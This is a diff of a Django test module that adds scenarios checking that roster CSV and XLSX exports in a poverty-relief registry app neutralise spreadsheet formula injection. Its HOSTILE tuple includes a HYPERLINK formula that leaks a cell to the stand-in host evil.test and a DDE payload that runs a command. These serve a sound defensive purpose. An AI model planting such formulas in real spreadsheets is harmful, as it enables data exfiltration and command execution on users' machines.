@@ -32,7 +32,7 @@ from tests.reports.factories import make_case as report_case
 
 ROOT = Path(settings.BASE_DIR)
 APP_PACKAGES = ("accounts", "audit", "cases", "demo", "dibao", "evidence", "households", "jobs", "overlaps",
-                "poverty_registry", "recipients", "reports")
+                "poverty_registry", "recipients", "reports", "tabular", "golive")
 HOSTILE = (
     '=HYPERLINK("http://evil.test/?"&B2,"open")',
     "=cmd|' /C calc'!A0",
@@ -197,7 +197,58 @@ def scenario_demo_registry_file(request):
     return [("csv", demo_registry.build_file(2026).read_bytes(), HOSTILE)]
 
 
+def _golive_batch(request, names, *, confirm=True):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    from golive.models import RosterBatch
+    from golive.services import roster_confirm, roster_upload
+    from tests.golive.conftest import csv_bytes as roster_csv
+    from tests.golive.conftest import member
+
+    officer = request.getfixturevalue("county_officer")
+    request.getfixturevalue("village")
+    capture = request.getfixturevalue("django_capture_on_commit_callbacks")
+    rows = [member(n + 1, code=f"G{n}", head=True, name=text, address=text) for n, text in enumerate(names)]
+    with capture(execute=True):
+        batch = roster_upload(actor=officer, uploaded=SimpleUploadedFile("roster.csv", roster_csv(rows)))
+    batch = RosterBatch.objects.get(pk=batch.pk)
+    if confirm:
+        with capture(execute=True):
+            roster_confirm(actor=officer, batch=batch)
+    return officer, RosterBatch.objects.get(pk=batch.pk)
+
+
+def scenario_golive_row_errors(request):
+    from golive.models import StagedRow
+    from golive.staging import write_error_file
+
+    officer, batch = _golive_batch(request, [t[:40] for t in HOSTILE], confirm=False)
+    # Every name is valid; mark the staged rows as errors to have the file carry them.
+    StagedRow.objects.filter(batch=batch).update(error_column="village_code", error_reason="x")
+    data = (Path(settings.VAR_DIR) / write_error_file(batch)).read_bytes()
+    return [("csv", data, tuple(t[:40].strip() for t in HOSTILE))]
+
+
+def scenario_golive_roster_export(request):
+    from golive.exports import roster_xlsx
+
+    officer, _batch = _golive_batch(request, [t[:40] for t in HOSTILE])
+    return [("xlsx", roster_xlsx(officer), tuple(t[:40].strip() for t in HOSTILE))]
+
+
+def scenario_import_template(request):
+    from golive.layout import LAYOUT
+    from tabular.workbooks import template_bytes
+
+    example = {c: HOSTILE[n % len(HOSTILE)] for n, c in enumerate(LAYOUT.columns)}
+    notes = {c: HOSTILE[-1 - n % len(HOSTILE)] for n, c in enumerate(LAYOUT.columns)}
+    return [("xlsx", template_bytes(LAYOUT, example=example, notes=notes, title="t"), HOSTILE)]
+
+
 SCENARIOS = {
+    "golive.row_errors": scenario_golive_row_errors,
+    "golive.roster_export": scenario_golive_roster_export,
+    "tabular.import_template": scenario_import_template,
     "reports.export_file": scenario_export_file,
     "reports.export_stream": scenario_export_stream,
     "recipients.roll_csv": scenario_roll_csv,
